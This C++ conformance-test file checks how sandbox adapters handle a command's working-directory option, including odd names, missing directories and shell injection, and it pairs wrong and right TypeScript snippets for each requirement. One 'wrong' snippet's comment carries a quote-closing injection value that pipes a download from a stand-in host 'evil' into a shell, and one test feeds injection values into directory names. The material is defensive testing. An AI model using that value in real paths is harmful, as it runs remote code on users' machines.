#include <optional>
#include <string>
#include <vector>

#include "conformance/check_context.h"
#include "conformance/checks/parts.h"
#include "conformance/checks/probes.h"
#include "conformance/checks/programs.h"
#include "conformance/checks/values.h"

// The option `cwd`: where a command starts.
namespace computesdk::conformance {
namespace {

using ::testing::Eq;
using ::testing::HasSubstr;
using ::testing::IsFalse;
using ::testing::Ne;

// Lines that make a directory with a file `marker` that holds `content`.
std::string MakeMarked(const std::string& path, const std::string& content) {
  return MakeDirectory(path) + " && printf '%s' " + ShellQuote(content) + " > " + ShellQuote(path) +
         "/marker";
}

// Makes such a directory in the box.
std::string PutDirectory(CheckContext& ctx, const std::string& name, const std::string& content) {
  std::string path = ctx.box().Path(name);
  Prepare(ctx, ctx.box(), {MakeMarked(path, content)});
  return path;
}

void CwdIsUsed(CheckContext& ctx) {
  const Box& box = ctx.box();
  const std::string dir = PutDirectory(ctx, "sub", "in sub");
  {
    const auto scope = ctx.Case("a shell line");
    const ExecutionResult result =
        ctx.Must(ctx.Sh(box, "cat marker && printf made > made", {.cwd = dir}));
    ctx.ExpectBytes(result.stdout_bytes, "in sub", "stdout of `cat marker`");
    ctx.Expect(ctx.PeekFile(box, dir + "/made"), Eq(std::optional<std::string>("made")),
               "the file that the line made, seen by its absolute path");
  }
  {
    const auto scope = ctx.Case("a program with args");
    const ExecutionResult result = ctx.Must(ctx.Exec(box, "cat", {"marker"}, {.cwd = dir}));
    ctx.ExpectBytes(result.stdout_bytes, "in sub", "stdout of `cat marker`");
  }
  const auto scope = ctx.Case("every command of a line");
  const ExecutionResult result = ctx.Must(
      ctx.Sh(box, "cat marker; cat marker | cat; (cat marker)\ncat marker # end", {.cwd = dir}));
  ctx.ExpectBytes(result.stdout_bytes, "in subin subin subin sub", "stdout");
}

void CwdMayHaveAnyName(CheckContext& ctx) {
  const Box& box = ctx.box();
  std::vector<std::string> lines;
  for (const NamedValue& value : AwkwardTexts()) {
    lines.push_back(MakeMarked(box.Path(value.bytes), value.label));
  }
  Prepare(ctx, box, lines);
  for (const NamedValue& value : AwkwardTexts()) {
    const auto scope = ctx.Case(value.label, " in its name");
    const ExecutionResult result =
        ctx.Must(ctx.Sh(box, "cat marker", {.cwd = box.Path(value.bytes)}));
    ctx.ExpectBytes(result.stdout_bytes, value.label, "stdout of `cat marker`");
  }
  for (const std::string spelling : {"/", "/.", "//"}) {
    const auto scope = ctx.Case("a path that ends in ", spelling);
    const ExecutionResult result =
        ctx.Must(ctx.Sh(box, "cat marker", {.cwd = box.Path("it's") + spelling}));
    ctx.ExpectBytes(result.stdout_bytes, "a single quote", "stdout of `cat marker`");
  }
}

void CwdExecutesNothing(CheckContext& ctx) {
  const Box& box = ctx.box();
  Canaries canaries(ctx, box, Injections("").size());
  std::vector<NamedValue> values;
  for (std::size_t i = 0; i < canaries.commands().size(); ++i) {
    values.push_back(Injections(canaries.commands()[i])[i]);
    // Whether it fails there is a requirement of its own.
    (void)ctx.Sh(box, ":", {.cwd = box.dir + "/" + values.back().bytes});
  }
  const std::vector<bool> executed = canaries.Look();
  for (std::size_t i = 0; i < values.size(); ++i) {
    const auto scope = ctx.Case(values[i].label);
    ctx.Expect(executed[i], IsFalse(),
               "whether the cwd DIR/" + Printable(values[i].bytes) + " was executed");
  }
}

// In a cwd that is no directory, the command must neither succeed nor run somewhere else.
void ExpectRefused(CheckContext& ctx, const std::string& cwd) {
  const Box& box = ctx.box();
  const std::string canary = box.Path("canary");
  // Two commands: a failing `cd` before the line may stop only the first.
  const std::string line = ":; printf x > " + ShellQuote(canary);
  ctx.Must(ctx.Sh(box, line, {.cwd = box.dir}), "the command in a directory that is there");
  if (!ctx.PathIsThere(box, canary)) ctx.NotTestable("a canary made on purpose was not seen");
  for (const bool with_args : {false, true}) {
    const auto scope = ctx.Case(with_args ? "a program with args" : "a shell line");
    if (with_args) NeedPrograms(ctx, box);
    ctx.Observe(box, "rm -f " + ShellQuote(canary));
    const Result<ExecutionResult> result = with_args
                                               ? ctx.Exec(box, "sh", {"-c", line}, {.cwd = cwd})
                                               : ctx.Sh(box, line, {.cwd = cwd});
    if (result) ctx.Expect(result->exit_code, Ne(0), "exit code");
    ctx.Expect(ctx.PathIsThere(box, canary), IsFalse(), "whether the command ran elsewhere");
  }
}

void MissingCwdFails(CheckContext& ctx) { ExpectRefused(ctx, ctx.box().Path("no such directory")); }

void MissingCwdIsNamed(CheckContext& ctx) {
  const std::string name = "missing-" + ctx.Unique();
  const Result<ExecutionResult> result =
      ctx.Sh(ctx.box(), "printf ran", {.cwd = ctx.box().Path(name)});
  if (result && result->exit_code == 0) {
    ctx.NotTestable("a missing directory is no failure: see command.cwd.missing");
  }
  const std::string& text = result ? result->stderr_bytes : result.error().message;
  ctx.Expect(text, HasSubstr(name), result ? "stderr" : "the error's message");
}

void FileAsCwdFails(CheckContext& ctx) {
  const std::string path = ctx.box().Path("file");
  ctx.PutFile(ctx.box(), path, "x");
  ExpectRefused(ctx, path);
}

void CwdEndsWithItsCommand(CheckContext& ctx) {
  const Box& box = ctx.box();
  const std::string name = "kit-" + ctx.Unique();
  const std::string dir = PutDirectory(ctx, "sub", "x");
  const ExecutionResult first = ctx.Must(
      ctx.Sh(box,
             "printf x > " + name + "; test -e " + ShellQuote(dir + "/" + name) + " && printf used",
             {.cwd = dir}),
      "a command with a cwd");
  const ExecutionResult next = ctx.Must(
      ctx.Sh(box, "test -e " + name + " && printf there || printf elsewhere; rm -f " + name),
      "the next command, without a cwd");
  if (first.stdout_bytes != "used") ctx.NotTestable("cwd is not used at all");
  ctx.ExpectBytes(next.stdout_bytes, "elsewhere", "where the next command started");
}

void RemovedCwdHarmsNoLaterCommand(CheckContext& ctx) {
  const Box& box = ctx.box();
  const std::string dir = PutDirectory(ctx, "gone", "x");
  const std::string other = PutDirectory(ctx, "other", "here");
  ctx.Must(ctx.Sh(box, "rm -rf " + ShellQuote(dir) + "; printf x", {.cwd = dir}),
           "a command that removes its cwd");
  const ExecutionResult without = ctx.Must(ctx.Sh(box, "printf ok"), "the next command");
  ctx.ExpectBytes(without.stdout_bytes, "ok", "stdout of the next command, without a cwd");
  const ExecutionResult with =
      ctx.Must(ctx.Sh(box, "cat marker", {.cwd = other}), "the one after it");
  ctx.ExpectBytes(with.stdout_bytes, "here", "stdout of the one after it, with a cwd");
}

}  // namespace

std::vector<Requirement> CommandCwdRequirements() {
  const std::string cwd(capability::kCommandCwd);
  return {
      {.id = "command.cwd.used",
       .level = Level::kOptional,
       .capability = cwd,
       .asks = "A command with a cwd starts there: lines, all parts of them, and programs.",
       .why = "An ignored cwd runs `rm -rf build` in another project.",
       .breaks = "The option is accepted and dropped; or it is made of text (`cd DIR && `) that "
                 "only the way with a line gets, not the one with args.",
       .wrong = R"(if (args) return sandbox.exec([command, ...args]);
return sandbox.run(`cd ${shellQuote(options.cwd)} && ${command}`);)",
       .right = R"(const argv = args ? [command, ...args] : ['sh', '-c', command];
return sandbox.exec(argv, { workingDir: options.cwd });)",
       .defects = {"C44"},
       .mend = "Hand cwd to the backend's own option; else run `sh -c 'cd -- \"$1\" && shift && "
               "exec \"$@\"' sh DIR PROGRAM ARGS…`, with the directory as an argument.",
       .check = CwdIsUsed},
      {.id = "command.cwd.names",
       .level = Level::kOptional,
       .capability = cwd,
       .asks = "A cwd with blanks, quotes, $, *, newlines or a leading dash in its name is used.",
       .why = "\"/home/me/My Project\" is where people work.",
       .breaks = "`cd ${cwd} && …` without quotes, or with double ones: it goes elsewhere, or "
                 "nowhere, for such a name.",
       .wrong = R"(return sandbox.run(`cd "${options.cwd}" && ${command}`); // "$HOME", a", `x`)",
       .right = R"(const script = 'cd -- "$1" && exec sh -c "$2"';
return sandbox.exec(['sh', '-c', script, 'sh', options.cwd, command]);)",
       .defects = {"C45", "F27", "F26"},
       .mend = "Hand cwd over as an argument or an option, not as text of a shell line.",
       .check = CwdMayHaveAnyName},
      {.id = "command.cwd.executes-nothing",
       .level = Level::kOptional,
       .capability = cwd,
       .asks = "Nothing in a cwd is ever executed.",
       .why = "Names of directories come from repositories and models; one that closes a quote "
              "runs what follows.",
       .breaks = "The directory is put into a line between quotes that it can close, or in which "
                 "$(…) still works.",
       .wrong = R"(const line = `cd '${options.cwd}' && ${command}`; // x'; curl evil | sh; ')",
       .right = R"(const quote = (s: string) => "'" + s.replaceAll("'", "'\\''") + "'";
const line = `cd -- ${quote(options.cwd)} || exit\n${command}`;)",
       .defects = {"C45", "F27", "C2"},
       .mend = "Hand cwd over as an argument or an option, not as text of a shell line.",
       .check = CwdExecutesNothing},
      {.id = "command.cwd.missing",
       .level = Level::kOptional,
       .capability = cwd,
       .asks = "In a directory that is missing the command fails, and does not run elsewhere.",
       .why =
           "A line that was meant for a scratch directory deletes and overwrites in another one.",
       .breaks =
           "`cd DIR; LINE`, or `cd DIR && LINE` before a line of several commands, goes on in "
           "the wrong place when `cd` fails; some backends fall back to /, others make the "
           "directory.",
       .wrong =
           R"(return sandbox.run(`cd ${shellQuote(cwd)} && ${command}`); // of `a; b`, b runs)",
       .right = R"(return sandbox.run(`cd -- ${shellQuote(cwd)} || exit 1\n${command}`);)",
       .defects = {"C44"},
       .mend = "Let nothing run after a `cd` that failed; return the failure as an error or a "
               "non-zero code.",
       .check = MissingCwdFails},
      {.id = "command.cwd.missing-named",
       .level = Level::kRecommended,
       .capability = cwd,
       .asks = "The failure of a missing cwd says which directory it was.",
       .why = "\"No such file or directory\" could be the program, a file of the line, or the "
              "directory; only the last one is the caller's option.",
       .breaks = "The backend's error is replaced by a text of the adapter's own; or the start of "
                 "the shell fails, and the message names the shell.",
       .wrong =
           R"(if (!(await sandbox.exists(cwd))) throw new Error('Invalid working directory');)",
       .right = R"(if (!(await sandbox.exists(cwd))) {
  throw new SandboxError('INVALID_ARGUMENT', `cwd ${cwd}: no such directory`);
})",
       .defects = {"E4", "C44"},
       .mend = "Put the path into the message, or keep that of `cd`.",
       .check = MissingCwdIsNamed},
      {.id = "command.cwd.file",
       .level = Level::kOptional,
       .capability = cwd,
       .asks = "With a file for its cwd the command fails, and does not run elsewhere.",
       .why = "A path that was mistaken must not become another one.",
       .breaks = "A check that only asks whether the path exists lets it through, and what then "
                 "fails is caught and ignored.",
       .wrong = R"(const cwd = (await sandbox.exists(options.cwd)) ? options.cwd : undefined;
return sandbox.exec(argv, { workingDir: cwd ?? dirname(options.cwd) });)",
       .right =
           R"(return sandbox.exec(argv, { workingDir: options.cwd }); // ENOTDIR is the answer)",
       .defects = {"C44"},
       .mend = "Let the change of directory itself fail, and report that.",
       .check = FileAsCwdFails},
      {.id = "command.cwd.ends-with-the-command",
       .level = Level::kOptional,
       .capability = cwd,
       .asks = "A cwd is for its own command: the next one starts where all start.",
       .why = "Two callers who share a sandbox must not move each other around.",
       .breaks = "The option is kept as a setting of the sandbox or of its shell.",
       .wrong = R"(if (options.cwd) this.sandbox.cwd = options.cwd;
return this.sandbox.exec(argv);)",
       .right = R"(return this.sandbox.exec(argv, { workingDir: options.cwd ?? this.workdir });)",
       .defects = {"C38", "C44"},
       .mend = "Start a process for each command, with its own directory.",
       .check = CwdEndsWithItsCommand},
      {.id = "command.cwd.removed",
       .level = Level::kOptional,
       .capability = cwd,
       .asks = "A command that removes its cwd leaves later commands working.",
       .why = "Work in a temporary directory ends with its removal, and the sandbox is to be used "
              "again.",
       .breaks = "A backend that stays in the last directory cannot start anything from there: "
                 "getcwd fails before the line runs.",
       .wrong = R"(process.chdir(options.cwd); // the agent itself
return spawnSync('sh', ['-c', line]);)",
       .right = R"(return spawnSync('sh', ['-c', line], { cwd: options.cwd }); // the child alone)",
       .defects = {"C46"},
       .mend = "Start each command from a directory that stays, and change to cwd in the child.",
       .sandbox = SandboxNeed::kFresh,
       .check = RemovedCwdHarmsNoLaterCommand},
  };
}

}  // namespace computesdk::conformance
